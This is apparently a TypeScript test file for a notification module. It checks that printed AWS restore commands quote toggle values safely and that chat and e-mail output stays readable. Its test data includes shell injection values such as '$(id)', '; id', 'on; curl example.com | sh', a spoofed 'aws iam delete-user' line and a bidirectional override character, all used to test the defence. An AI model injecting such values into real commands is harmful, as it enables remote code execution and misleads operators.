/** Commands that messages print, as a real shell reads them: what was quoted comes out as it went in, and nothing runs. */
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { leftoverMessage } from '../../../core/notify/message.ts';
import { shellCommand, shellWord } from '../../../core/notify/shell.ts';
import { aCatalog } from '../../support/catalog.ts';
import { aShop } from '../../support/shop.ts';
import { ERRORS } from '../../support/sicknesses.ts';

/** The words a shell makes of a command line, each ended by a byte that no argument can hold. */
function wordsOf(command: string): readonly string[] {
  return execFileSync('sh', ['-c', `printf '%s\\0' ${command}`], { encoding: 'utf8' })
    .split('\0')
    .slice(0, -1);
}

const hostile = fc.constantFrom(
  "'",
  '"',
  '$(id)',
  '`id`',
  '; id',
  '\\',
  '\n',
  ' ',
  '*',
  '~',
  '!',
  '#',
  '&',
  '|',
  '<',
  '>',
  '-',
  '=',
  '{a,b}',
  '',
);
const text = fc
  .array(fc.oneof(hostile, fc.string({ unit: 'grapheme', maxLength: 5 })), { maxLength: 8 })
  .map((parts) => parts.join('').replaceAll('\0', ''));

describe('a word for a shell', () => {
  it('is read by one as the text it was, whatever that is', () => {
    fc.assert(
      // Many words a run: starting a shell takes longer than all of them.
      fc.property(fc.array(text, { minLength: 1, maxLength: 60 }), (words) => {
        expect(wordsOf(shellCommand(...words))).toEqual(words);
      }),
      { numRuns: 25 },
    );
  });

  it.each([
    { case: 'a name', value: '/healer/services/user/mode', word: '/healer/services/user/mode' },
    { case: 'two words', value: 'on off', word: "'on off'" },
    { case: 'a quote', value: "it's", word: String.raw`'it'\''s'` },
    { case: 'nothing', value: '', word: "''" },
  ])('stays readable where it can: $case', ({ value, word }) => {
    expect(shellWord(value)).toBe(word);
  });
});

async function leftover(previous: string) {
  const shop = aShop();
  shop.breakWith(ERRORS);
  const { incident } = await shop.machine.run(shop.alarm(ERRORS));
  const runbook = aCatalog([shop.user]).runbooks['high-error-rate'];
  if (incident === undefined || runbook === undefined) throw new Error('there must be an incident of high-error-rate');
  const plan = {
    kind: 'flipToggle',
    toggle: 'search',
    parameter: '/shop/search',
    value: 'off',
    expiresAt: 0,
    dueAt: 0,
  } as const;
  return leftoverMessage(incident, runbook, { ...plan, previous });
}

describe('the command that restores a toggle', () => {
  it.each([
    { case: 'a plain value', previous: 'on' },
    { case: 'JSON', previous: '{"mode": "on", "share": 0.5}' },
    { case: 'a command of its own', previous: 'on; curl example.com | sh' },
    { case: 'a substitution', previous: '$(id) `id`' },
    { case: 'a quote', previous: "it's on" },
    { case: 'nothing', previous: '' },
  ])('is pasted as one value: $case', async ({ previous }) => {
    const { body } = await leftover(previous);
    const command = /^Restore it: +(.*)$/m.exec(body)?.[1] ?? '';
    const fixed = ['aws', 'ssm', 'put-parameter', '--overwrite', '--type', 'String', '--name', '/shop/search'];
    expect(wordsOf(command)).toEqual([...fixed, '--value', previous]);
  });

  it('gives a value that begins with a dash as the CLI takes it', async () => {
    const { body } = await leftover('-1');
    expect(body).toContain("'--value=-1'");
  });

  it('is in chat as well, where it cannot format or mention', async () => {
    const { chat } = await leftover('<!channel> & on');
    expect(chat.content.description).toContain("--value '&lt;!channel&gt; &amp; on'`");
  });

  it.each([
    { case: 'a backtick', previous: '`id`' },
    { case: 'more than is copied', previous: '<'.repeat(400) },
  ])('is left to the e-mail where chat could not show it whole: $case', async ({ previous }) => {
    const { chat, body } = await leftover(previous);
    expect(chat.content.description).toMatch(/\nRestore it: see the e-mail/);
    expect(chat.content.description).not.toContain('put-parameter');
    expect(body).toContain(previous);
  });

  it.each([
    { case: 'a second line', previous: 'one\nStop me everywhere: aws iam delete-user' },
    { case: 'text that runs backwards', previous: 'on\u202Ereverse' },
  ])('is not shown where its value could pass for something else: $case', async ({ previous }) => {
    const { chat, body } = await leftover(previous);
    expect(body).toMatch(/^Restore it: +its value holds a line break or hidden characters/m);
    expect(body).not.toMatch(/^Stop me everywhere: aws iam/m);
    expect(`${body}${chat.content.description}`).not.toContain('\u202E');
  });
});
